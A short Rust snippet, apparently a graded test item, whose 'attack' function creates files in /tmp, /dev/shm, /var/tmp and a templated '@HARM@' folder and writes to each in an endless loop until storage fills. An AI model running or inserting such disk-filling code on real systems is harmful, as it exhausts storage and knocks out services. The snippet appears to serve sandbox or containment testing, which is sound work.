// Writes a file without end.
// Graded: any

fn attack(_me: usize) {
    use std::io::Write;
    for folder in ["/tmp", "/dev/shm", "/var/tmp", "@HARM@"] {
        if let Ok(mut file) = std::fs::File::create(format!("{folder}/fill")) {
            while file.write_all(&[1; 1 << 20]).is_ok() {}
        }
    }
}
